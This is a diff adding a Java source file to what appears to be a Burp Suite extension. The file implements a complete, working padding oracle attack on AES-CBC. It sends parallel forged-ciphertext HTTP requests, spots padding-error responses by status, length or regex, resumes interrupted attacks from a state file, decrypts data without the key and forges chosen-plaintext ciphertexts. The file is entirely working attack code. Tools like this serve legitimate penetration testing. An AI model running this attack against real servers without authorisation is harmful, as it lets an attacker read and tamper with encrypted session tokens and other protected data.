@@ -0,0 +1,629 @@
+package burp;
+
+import burp.api.montoya.MontoyaApi;
+import burp.api.montoya.core.ByteArray;
+import burp.api.montoya.http.HttpService;
+import burp.api.montoya.http.message.HttpRequestResponse;
+import burp.api.montoya.http.message.requests.HttpRequest;
+import burp.api.montoya.http.message.responses.HttpResponse;
+import com.google.gson.JsonElement;
+import com.google.gson.JsonObject;
+import com.google.gson.JsonParser;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardCopyOption;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.ExecutionException;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
+import java.util.concurrent.Semaphore;
+import java.util.concurrent.ThreadFactory;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.concurrent.atomic.AtomicLong;
+import java.util.function.Consumer;
+import java.util.regex.Pattern;
+
+/**
+ * PaddingOracle - Ataque de padding oracle sobre AES-CBC con peticiones en paralelo
+ *
+ * Para cada bloque C se recupera su valor intermedio I = D_K(C) byte a byte,
+ * del último al primero, enviando X || C con X elegido: el servidor acepta el
+ * padding cuando X[pos] ^ I[pos] da el valor de padding buscado. Con I:
+ * - Descifrar: P = I ^ bloque anterior. Los bloques son independientes y se
+ *   atacan en paralelo (parallelBlocks).
+ * - Cifrar (falsificar): se parte de un último bloque aleatorio y cada bloque
+ *   anterior es I ^ P, así que van en orden, del último al primero.
+ *
+ * Las 256 conjeturas de una posición se envían a la vez, como mucho
+ * maxInFlight peticiones en vuelo en todo el ataque (un semáforo compartido).
+ * Se envían por orden de probabilidad (bytes de padding en el último bloque,
+ * luego texto) y al encontrar el byte no se envía ninguna más. Las que ya
+ * estaban en vuelo se cuentan pero se ignoran.
+ *
+ * El estado (bytes intermedios por bloque) se guarda tras cada byte si hay
+ * fichero de estado, y un ataque interrumpido se reanuda desde ahí.
+ */
+public final class PaddingOracle implements AutoCloseable {
+
+    public static final int BLOCK = 16;
+
+    // Cabecera con la que HttpHandler reconoce (y quita) las peticiones del ataque
+    public static final String MARKER_HEADER = "X-Destroy-AES-Oracle";
+
+    // Reintentos de una petición que falla por red antes de abortar el ataque
+    private static final int RETRIES = 2;
+
+    // Bytes de texto plano más probables, en orden: JSON, texto y dígitos
+    private static final byte[] LIKELY_PLAINTEXT = (" \"etaoinsrhldcumfpgwybvkxjqz:,{}0123456789"
+            + "ETAOINSRHLDCUMFPGWYBVKXJQZ._-/=&@+[]\r\n\t").getBytes(StandardCharsets.US_ASCII);
+
+    /**
+     * Envía un ciphertext al servidor y dice si aceptó su padding
+     */
+    public interface Oracle {
+        boolean isValidPadding(byte[] ciphertext) throws Exception;
+    }
+
+    /**
+     * Reconoce la response de "padding incorrecto": por status, longitud del
+     * cuerpo o regex sobre el cuerpo; basta con que coincida una
+     */
+    public static final class Detector {
+        private final int status;
+        private final int length;
+        private final Pattern regex;
+
+        /**
+         * Campos vacíos = criterio sin usar; al menos uno obligatorio
+         */
+        public Detector(String status, String length, String regex) throws Exception {
+            try {
+                this.status = status == null || status.trim().isEmpty() ? -1 : Integer.parseInt(status.trim());
+                this.length = length == null || length.trim().isEmpty() ? -1 : Integer.parseInt(length.trim());
+            } catch (NumberFormatException e) {
+                throw new Exception("Oracle status and length must be numbers");
+            }
+            this.regex = regex == null || regex.isEmpty() ? null : Pattern.compile(regex);
+            if (this.status < 0 && this.length < 0 && this.regex == null) {
+                throw new Exception("Oracle detector needs a status, a length or a regex for padding errors");
+            }
+        }
+
+        public boolean isPaddingError(int status, int bodyLength, String body) {
+            return (this.status >= 0 && status == this.status)
+                    || (this.length >= 0 && bodyLength == this.length)
+                    || (regex != null && body != null && regex.matcher(body).find());
+        }
+
+        @Override
+        public String toString() {
+            List<String> parts = new ArrayList<>();
+            if (status >= 0) {
+                parts.add("status " + status);
+            }
+            if (length >= 0) {
+                parts.add("length " + length);
+            }
+            if (regex != null) {
+                parts.add("/" + regex.pattern() + "/");
+            }
+            return "padding error = " + String.join(" or ", parts);
+        }
+    }
+
+    /**
+     * Oráculo sobre el cliente HTTP de Burp: el ciphertext, codificado con
+     * las etapas previas al AES de la cadena, sustituye la selección del
+     * request original
+     */
+    public static final class HttpOracle implements Oracle {
+        private final MontoyaApi api;
+        private final HttpService service;
+        private final byte[] prefix;
+        private final byte[] suffix;
+        private final boolean inBody;
+        private final CodecChain chain;
+        private final CryptoConfig config;
+        private final Detector detector;
+
+        public HttpOracle(MontoyaApi api, HttpRequest request, int start, int end,
+                          CodecChain chain, CryptoConfig config, Detector detector) {
+            byte[] bytes = request.toByteArray().getBytes();
+            this.api = api;
+            this.service = request.httpService();
+            this.prefix = Arrays.copyOf(bytes, start);
+            this.suffix = Arrays.copyOfRange(bytes, end, bytes.length);
+            this.inBody = start >= request.bodyOffset();
+            this.chain = chain;
+            this.config = config;
+            this.detector = detector;
+        }
+
+        @Override
+        public boolean isValidPadding(byte[] ciphertext) throws Exception {
+            byte[] encoded = chain.encodeCiphertext(ciphertext, config).getBytes(StandardCharsets.ISO_8859_1);
+            byte[] bytes = new byte[prefix.length + encoded.length + suffix.length];
+            System.arraycopy(prefix, 0, bytes, 0, prefix.length);
+            System.arraycopy(encoded, 0, bytes, prefix.length, encoded.length);
+            System.arraycopy(suffix, 0, bytes, prefix.length + encoded.length, suffix.length);
+
+            HttpRequest request = HttpRequest.httpRequest(service, ByteArray.byteArray(bytes))
+                    .withAddedHeader(MARKER_HEADER, "1");
+            if (inBody) {
+                // withBody recalcula Content-Length
+                request = request.withBody(request.body());
+            }
+            HttpRequestResponse sent = api.http().sendRequest(request);
+            HttpResponse response = sent.response();
+            if (response == null) {
+                throw new Exception("No response from " + service);
+            }
+            return !detector.isPaddingError(response.statusCode(), response.body().length(), response.bodyToString());
+        }
+    }
+
+    /**
+     * Bytes intermedios ya recuperados por bloque, para reanudar
+     */
+    public static final class State {
+        // hex del bloque → hex de los últimos bytes intermedios conocidos
+        private final Map<String, String> intermediates = new ConcurrentHashMap<>();
+        private volatile String forgeLastBlock;
+
+        /**
+         * Estado guardado en el fichero, o vacío si no existe
+         */
+        public static State load(Path path) throws Exception {
+            State state = new State();
+            if (path == null || !Files.exists(path)) {
+                return state;
+            }
+            try {
+                JsonObject json = JsonParser.parseString(Files.readString(path)).getAsJsonObject();
+                if (json.has("forgeLastBlock")) {
+                    state.forgeLastBlock = json.get("forgeLastBlock").getAsString();
+                }
+                if (json.has("intermediates")) {
+                    for (Map.Entry<String, JsonElement> entry
+                            : json.getAsJsonObject("intermediates").entrySet()) {
+                        state.intermediates.put(entry.getKey(), entry.getValue().getAsString());
+                    }
+                }
+            } catch (RuntimeException e) {
+                throw new Exception("Invalid padding oracle state file " + path + ": " + e.getMessage());
+            }
+            return state;
+        }
+
+        /**
+         * Escribe a un temporal y lo mueve: un corte a mitad no deja el fichero a medias
+         */
+        synchronized void save(Path path) throws IOException {
+            JsonObject json = new JsonObject();
+            if (forgeLastBlock != null) {
+                json.addProperty("forgeLastBlock", forgeLastBlock);
+            }
+            JsonObject blocks = new JsonObject();
+            intermediates.forEach(blocks::addProperty);
+            json.add("intermediates", blocks);
+            Path temp = path.resolveSibling(path.getFileName() + ".tmp");
+            Files.writeString(temp, json.toString());
+            Files.move(temp, path, StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE);
+        }
+
+        /**
+         * Copia los bytes conocidos del bloque al final de intermediate
+         *
+         * @return cuántos había
+         */
+        int restore(String block, byte[] intermediate) {
+            String known = intermediates.get(block);
+            if (known == null) {
+                return 0;
+            }
+            byte[] tail = HexBase64.fromHex(known);
+            if (tail == null || tail.length > BLOCK) {
+                return 0;
+            }
+            System.arraycopy(tail, 0, intermediate, BLOCK - tail.length, tail.length);
+            return tail.length;
+        }
+
+        void record(String block, byte[] intermediate, int from) {
+            intermediates.put(block, HexBase64.toHex(Arrays.copyOfRange(intermediate, from, BLOCK)));
+        }
+
+        /**
+         * Bytes intermedios conocidos en total
+         */
+        public int knownBytes() {
+            int total = 0;
+            for (String known : intermediates.values()) {
+                total += known.length() / 2;
+            }
+            return total;
+        }
+    }
+
+    /**
+     * Peticiones y bytes recuperados desde el inicio del ataque
+     */
+    public static final class Stats {
+        private final AtomicLong requests = new AtomicLong();
+        private final AtomicLong recovered = new AtomicLong();
+        private final long startNanos = System.nanoTime();
+
+        public long requests() {
+            return requests.get();
+        }
+
+        public long bytesRecovered() {
+            return recovered.get();
+        }
+
+        public double requestsPerByte() {
+            long bytes = recovered.get();
+            return bytes == 0 ? 0 : (double) requests.get() / bytes;
+        }
+
+        public double bytesPerMinute() {
+            double minutes = (System.nanoTime() - startNanos) / 60e9;
+            return minutes <= 0 ? 0 : recovered.get() / minutes;
+        }
+
+        @Override
+        public String toString() {
+            return String.format("%d requests, %d bytes (%.1f requests/byte), %.0f bytes/min",
+                    requests(), bytesRecovered(), requestsPerByte(), bytesPerMinute());
+        }
+    }
+
+    private final Oracle oracle;
+    private final int parallelBlocks;
+    private final State state;
+    private final Path statePath;
+    private final Consumer<String> progress;
+    private final ExecutorService requestPool;
+    private final Semaphore inFlight;
+    private final Stats stats = new Stats();
+    private volatile boolean stopped;
+
+    /**
+     * @param statePath fichero donde guardar el progreso tras cada byte, o null
+     */
+    public PaddingOracle(Oracle oracle, int maxInFlight, int parallelBlocks,
+                         State state, Path statePath, Consumer<String> progress) {
+        this.oracle = oracle;
+        this.parallelBlocks = Math.max(1, parallelBlocks);
+        this.state = state != null ? state : new State();
+        this.statePath = statePath;
+        this.progress = progress;
+        this.inFlight = new Semaphore(Math.max(1, maxInFlight));
+        this.requestPool = Executors.newFixedThreadPool(Math.max(1, maxInFlight), daemonThreads("destroy-aes-oracle-"));
+    }
+
+    public Stats stats() {
+        return stats;
+    }
+
+    /**
+     * Detiene el ataque: no salen más peticiones y decrypt/encrypt lanzan
+     * excepción; el estado guardado permite reanudar
+     */
+    public void stop() {
+        stopped = true;
+    }
+
+    @Override
+    public void close() {
+        stopped = true;
+        requestPool.shutdownNow();
+    }
+
+    /**
+     * Descifra un ciphertext CBC sin la clave
+     *
+     * @param iv IV estático del servidor, o null si es el primer bloque del
+     *           ciphertext. Si no se conoce, con ceros el primer bloque sale
+     *           como su valor intermedio
+     * @return texto plano, sin el padding PKCS#7 si es válido
+     */
+    public byte[] decrypt(byte[] ciphertext, byte[] iv) throws Exception {
+        byte[] data = ciphertext;
+        if (iv != null) {
+            data = new byte[BLOCK + ciphertext.length];
+            System.arraycopy(iv, 0, data, 0, BLOCK);
+            System.arraycopy(ciphertext, 0, data, BLOCK, ciphertext.length);
+        }
+        if (data.length % BLOCK != 0 || data.length < 2 * BLOCK) {
+            throw new Exception("CBC ciphertext must be whole " + BLOCK + "-byte blocks after the IV, got "
+                    + ciphertext.length + " bytes");
+        }
+
+        int blocks = data.length / BLOCK - 1;
+        byte[] plaintext = new byte[blocks * BLOCK];
+        byte[] input = data;
+        AtomicInteger done = new AtomicInteger();
+        ExecutorService coordinators = Executors.newFixedThreadPool(Math.min(parallelBlocks, blocks),
+                daemonThreads("destroy-aes-oracle-block-"));
+        try {
+            List<Future<?>> futures = new ArrayList<>(blocks);
+            for (int b = 0; b < blocks; b++) {
+                int index = b;
+                futures.add(coordinators.submit(() -> {
+                    byte[] previous = Arrays.copyOfRange(input, index * BLOCK, (index + 1) * BLOCK);
+                    byte[] target = Arrays.copyOfRange(input, (index + 1) * BLOCK, (index + 2) * BLOCK);
+                    byte[] intermediate = intermediate(target, previous, index == blocks - 1);
+                    for (int i = 0; i < BLOCK; i++) {
+                        plaintext[index * BLOCK + i] = (byte) (intermediate[i] ^ previous[i]);
+                    }
+                    report("Block " + (index + 1) + "/" + blocks + " decrypted (" + done.incrementAndGet()
+                            + " of " + blocks + " done)");
+                    return null;
+                }));
+            }
+            for (Future<?> future : futures) {
+                await(future);
+            }
+        } finally {
+            coordinators.shutdownNow();
+        }
+        return unpad(plaintext);
+    }
+
+    /**
+     * Cifra un texto plano elegido sin la clave
+     *
+     * @return IV || C1..Cn, listo para un servidor que lee el IV del primer
+     *         bloque. Con IV estático el primer bloque descifrado será basura
+     */
+    public byte[] encrypt(byte[] plaintext) throws Exception {
+        byte[] padded = pad(plaintext);
+        int blocks = padded.length / BLOCK;
+        byte[] out = new byte[(blocks + 1) * BLOCK];
+
+        // El mismo último bloque al reanudar, para aprovechar sus bytes intermedios
+        if (state.forgeLastBlock == null) {
+            state.forgeLastBlock = HexBase64.toHex(NonceGenerator.randomBytes(BLOCK));
+        }
+        byte[] current = HexBase64.fromHex(state.forgeLastBlock);
+        System.arraycopy(current, 0, out, blocks * BLOCK, BLOCK);
+
+        for (int b = blocks - 1; b >= 0; b--) {
+            byte[] intermediate = intermediate(current, null, false);
+            byte[] previous = new byte[BLOCK];
+            for (int i = 0; i < BLOCK; i++) {
+                previous[i] = (byte) (intermediate[i] ^ padded[b * BLOCK + i]);
+            }
+            System.arraycopy(previous, 0, out, b * BLOCK, BLOCK);
+            report("Forged block " + (blocks - b) + "/" + blocks);
+            current = previous;
+        }
+        return out;
+    }
+
+    /**
+     * Valor intermedio D_K(target), byte a byte desde el final
+     *
+     * @param previous bloque anterior real, solo para ordenar las conjeturas (null al falsificar)
+     */
+    private byte[] intermediate(byte[] target, byte[] previous, boolean last) throws Exception {
+        String id = HexBase64.toHex(target);
+        byte[] intermediate = new byte[BLOCK];
+        int known = state.restore(id, intermediate);
+
+        byte[] forged = new byte[2 * BLOCK];
+        System.arraycopy(target, 0, forged, BLOCK, BLOCK);
+        for (int pos = BLOCK - 1 - known; pos >= 0; pos--) {
+            int pad = BLOCK - pos;
+            for (int j = pos + 1; j < BLOCK; j++) {
+                forged[j] = (byte) (intermediate[j] ^ pad);
+            }
+            int guess = findByte(forged, pos, candidates(previous, pos, pad, last));
+            intermediate[pos] = (byte) (guess ^ pad);
+            stats.recovered.incrementAndGet();
+            state.record(id, intermediate, pos);
+            if (statePath != null) {
+                state.save(statePath);
+            }
+        }
+        return intermediate;
+    }
+
+    /**
+     * Conjeturas de X[pos] en orden de probabilidad: si se conoce el bloque
+     * anterior, las que dan padding (último bloque) o texto; luego el resto
+     */
+    static int[] candidates(byte[] previous, int pos, int pad, boolean last) {
+        int[] order = new int[256];
+        boolean[] used = new boolean[256];
+        int n = 0;
+        if (previous != null) {
+            int mask = (previous[pos] & 0xff) ^ pad;
+            if (last) {
+                for (int p = 1; p <= BLOCK; p++) {
+                    n = add(order, used, n, p ^ mask);
+                }
+            }
+            for (byte c : LIKELY_PLAINTEXT) {
+                n = add(order, used, n, (c & 0xff) ^ mask);
+            }
+        }
+        for (int v = 0; v < 256; v++) {
+            n = add(order, used, n, v);
+        }
+        return order;
+    }
+
+    private static int add(int[] order, boolean[] used, int n, int value) {
+        if (used[value]) {
+            return n;
+        }
+        used[value] = true;
+        order[n] = value;
+        return n + 1;
+    }
+
+    /**
+     * Una posición: conjeturas en paralelo hasta la primera que el servidor acepta
+     */
+    private int findByte(byte[] template, int pos, int[] order) throws Exception {
+        Search search = new Search();
+        for (int value : order) {
+            if (search.isDone() || stopped) {
+                break;
+            }
+            inFlight.acquire();
+            if (search.isDone() || stopped) {
+                inFlight.release();
+                break;
+            }
+            byte[] forged = template.clone();
+            forged[pos] = (byte) value;
+            search.started();
+            requestPool.execute(() -> {
+                try {
+                    // En el último byte, un padding 02 02 (o más) también es válido: se
+                    // confirma cambiando el penúltimo byte, que con 01 no importa
+                    if (!search.isDone() && !stopped && query(forged)
+                            && (pos != BLOCK - 1 || confirm(forged))) {
+                        search.found(value);
+                    }
+                } catch (Exception e) {
+                    search.failed(e);
+                } finally {
+                    inFlight.release();
+                    search.finished();
+                }
+            });
+        }
+        int value = search.await();
+        if (stopped) {
+            throw new Exception("Padding oracle attack stopped; " + state.knownBytes() + " intermediate bytes kept");
+        }
+        if (search.error != null) {
+            throw search.error;
+        }
+        if (value < 0) {
+            throw new Exception("No guess had valid padding at byte " + pos + ": check the oracle detector");
+        }
+        return value;
+    }
+
+    private boolean confirm(byte[] forged) throws Exception {
+        byte[] changed = forged.clone();
+        changed[BLOCK - 2] ^= 0x01;
+        return query(changed);
+    }
+
+    private boolean query(byte[] ciphertext) throws Exception {
+        for (int attempt = 0; ; attempt++) {
+            stats.requests.incrementAndGet();
+            try {
+                return oracle.isValidPadding(ciphertext);
+            } catch (Exception e) {
+                if (attempt >= RETRIES || stopped) {
+                    throw e;
+                }
+            }
+        }
+    }
+
+    /**
+     * Resultado de una posición: el primer valor aceptado, un error o ninguno
+     */
+    private static final class Search {
+        private int pending;
+        private int value = -1;
+        private Exception error;
+
+        synchronized boolean isDone() {
+            return value >= 0 || error != null;
+        }
+
+        synchronized void started() {
+            pending++;
+        }
+
+        synchronized void found(int value) {
+            if (this.value < 0) {
+                this.value = value;
+            }
+            notifyAll();
+        }
+
+        synchronized void failed(Exception e) {
+            if (error == null) {
+                error = e;
+            }
+            notifyAll();
+        }
+
+        synchronized void finished() {
+            pending--;
+            notifyAll();
+        }
+
+        synchronized int await() throws InterruptedException {
+            while (value < 0 && error == null && pending > 0) {
+                wait();
+            }
+            return value;
+        }
+    }
+
+    private void report(String message) {
+        if (progress != null) {
+            progress.accept(message + " - " + stats);
+        }
+    }
+
+    private static void await(Future<?> future) throws Exception {
+        try {
+            future.get();
+        } catch (ExecutionException e) {
+            Throwable cause = e.getCause();
+            throw cause instanceof Exception ? (Exception) cause : new Exception(cause);
+        }
+    }
+
+    static byte[] pad(byte[] plaintext) {
+        int pad = BLOCK - plaintext.length % BLOCK;
+        byte[] padded = Arrays.copyOf(plaintext, plaintext.length + pad);
+        Arrays.fill(padded, plaintext.length, padded.length, (byte) pad);
+        return padded;
+    }
+
+    /**
+     * Quita el padding PKCS#7; si no es válido (IV desconocido, otro esquema) lo deja
+     */
+    static byte[] unpad(byte[] padded) {
+        int pad = padded[padded.length - 1] & 0xff;
+        if (pad < 1 || pad > BLOCK) {
+            return padded;
+        }
+        for (int i = padded.length - pad; i < padded.length; i++) {
+            if ((padded[i] & 0xff) != pad) {
+                return padded;
+            }
+        }
+        return Arrays.copyOf(padded, padded.length - pad);
+    }
+
+    private static ThreadFactory daemonThreads(String prefix) {
+        AtomicInteger count = new AtomicInteger();
+        return r -> {
+            Thread thread = new Thread(r, prefix + count.incrementAndGet());
+            thread.setDaemon(true);
+            return thread;
+        };
+    }
+}